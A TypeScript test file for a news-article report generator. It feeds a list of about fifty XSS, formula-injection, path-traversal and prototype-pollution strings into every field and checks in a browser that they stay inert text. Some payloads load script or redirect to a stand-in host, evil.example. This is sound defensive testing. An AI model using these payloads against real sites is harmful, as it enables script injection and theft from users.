/** Whatever an article says stays text on every page. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { dataScript } from '../../src/report/data-files.js';
import { writeReport } from '../../src/report/report.js';
import type { Article } from '../../src/record/schema.js';
import { exampleArticle } from '../support/article.js';
import { hasBrowser, openBrowser, openPage, visit } from '../support/browser.js';

const RUN = 'window.harmed=1';
const TAGS = ['img', 'svg', 'body', 'iframe', 'input', 'video', 'details', 'marquee', 'object', 'math'];
/** Strings that run, load, close, turn or break something where they are taken for more than text. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<!--<script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  ...TAGS.map((tag) => `<${tag} src=x onerror="${RUN}" onload="${RUN}" onfocus="${RUN}" autofocus ontoggle="${RUN}" open>`),
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `blob:${RUN}`,
  `//evil.example/x`,
  `http://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/<script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus '`,
  `\` onclick=\`${RUN}\``,
  `');${RUN};//`,
  `\\');${RUN};//`,
  `"});${RUN};({"`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}`,
  `\u202e<script>${RUN}</script>\u202c`,
  '\u202eтолық теріс\u2066\u2067',
  '\u200f\u200e\u061c',
  '\u2028\u2029',
  '\u0000\u0001\u0008',
  '\ud800',
  '\ufeff',
  `<a href="javascript:${RUN}">x</a>`,
  `<style>*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '=cmd|calc',
  '../../../etc/passwd',
];

/** An article that says one thing wherever it can say anything. */
function saying(words: string, index: number): Article {
  const text = `x${words} y`;
  const mention = { start: 0, end: text.length, surface: text, sentence: 0, rule: words || 'r', confidence: 0.4 };
  const example = exampleArticle();
  const entity = {
    ...example.entities[0]!,
    ...mention,
    name: words || 'x',
    links: {},
    person: { given: words, family: words, patronymic: words, initials: words, roles: [words], affiliation: 'e1', country: null },
  };
  const phrase = { text: words || 'x', start: 0, end: text.length, field: 'text' as const };
  const lists = {
    money: [{ ...example.money[0]!, ...mention }],
    dates: [{ ...example.dates[0]!, ...mention, value: words || 'x', dateStart: '2025-01-01' }],
    quantities: [{ ...example.quantities[0]!, ...mention, unit: words || 'x', of: words || 'x' }],
  };
  return exampleArticle({
    id: `${index} ${words}`,
    uri: words || 'x',
    title: text,
    text,
    lead: text,
    publisher: words,
    authors: [words],
    section: words,
    sentences: [{ start: 0, end: text.length }],
    about: ['e1'],
    entities: [entity],
    ...lists,
    headline: { entities: [entity], ...lists },
    facts: ['money/0', 'quantities/0'].map((figure) => ({
      ...example.facts[0]!,
      figure,
      measure: phrase,
      predicate: phrase,
      purpose: phrase,
      subject: 'e1',
      place: 'e1',
      counterparty: 'e1',
      speaker: 'e1',
      period: 'dates/0',
      partOf: null,
      confidence: { measure: 0.4 },
      sentence: 0,
    })),
    issues: [{ code: words || 'x', severity: 'warning', message: words || 'x', start: 0, end: 1 }],
  });
}

test('data in a script is data: nothing ends its string', () => {
  for (const words of HOSTILE) {
    const got: unknown[] = [];
    // oxlint-disable-next-line no-new-func
    new Function('derek', dataScript('x', [words]))((name: string, json: string) => got.push(name, JSON.parse(json)));
    expect(got).toEqual(['x', [words]]);
  }
});

describe.skipIf(!hasBrowser)('in a browser', () => {
  let browser: Browser;
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'derek-hostile-'));
    await writeFile(join(folder, 'records.jsonl'), HOSTILE.map((words, index) => `${JSON.stringify(saying(words, index))}\n`).join(''));
    await writeReport(join(folder, 'records.jsonl'), join(folder, 'report'));
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await rm(folder, { recursive: true, force: true });
  });

  test(`${HOSTILE.length} strings in every field are inert on every page`, async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
    const { page, faults } = await openPage(browser);
    const site = pathToFileURL(join(folder, 'report', 'index.html')).href;
    await visit(page, site);
    const seen = await page.evaluate(`(async () => {
      const wait = (test) => new Promise((done) => { const look = () => (test() ? done() : setTimeout(look, 5)); look(); });
      const found = [];
      const pages = ['/', '/facts', '/articles', '/names', ...Array.from({ length: ${HOSTILE.length} }, (_, n) => ['/article/' + n + '?fact=0', '/name/' + n]).flat()];
      for (const path of pages) {
        const before = document.querySelector('main').firstChild;
        location.hash = '#' + path;
        await wait(() => document.querySelector('main').firstChild !== before || path === '/');
        for (const one of document.querySelectorAll('.m, .fact-head, .sort')) {
          one.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
          one.dispatchEvent(new FocusEvent('focusin', { bubbles: true }));
        }
        document.querySelector('.fact-head')?.click();
        const foreign = document.querySelectorAll('script:not([src="report.js"]):not([src^="data/"]), img, svg, iframe, object, embed, video, audio, math, marquee, base, style, form[action], meta[http-equiv=refresh], link:not([href="report.css"]):not([href="data:,"])');
        const handlers = [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on')));
        const links = [...document.querySelectorAll('a[href]')].filter((one) => !/^(#|https?:)/.test(one.getAttribute('href')));
        found.push(...[...foreign, ...handlers, ...links].map((one) => path + ' ' + one.outerHTML.slice(0, 100)));
        if (window.harmed) found.push(path + ' ran');
        if (Object.prototype.harmed) found.push(path + ' polluted');
      }
      return found;
    })()`);
    expect(seen).toEqual([]);
    expect(faults).toEqual([]);
  });

  test('marks of direction turn nothing outside of their own words', async () => {
    const { page } = await openPage(browser);
    const at = HOSTILE.findIndex((words) => words.startsWith('\u202eтолық'));
    await visit(page, `${pathToFileURL(join(folder, 'report', 'index.html')).href}#/article/${at}`);
    expect(await page.locator('.facts-column h2').innerText()).toBe('Facts of this article 2');
    const isolated = await page.evaluate(
      '[...document.querySelectorAll("bdi")].every((one) => getComputedStyle(one).unicodeBidi === "isolate")',
    );
    expect(isolated).toBe(true);
  });
});
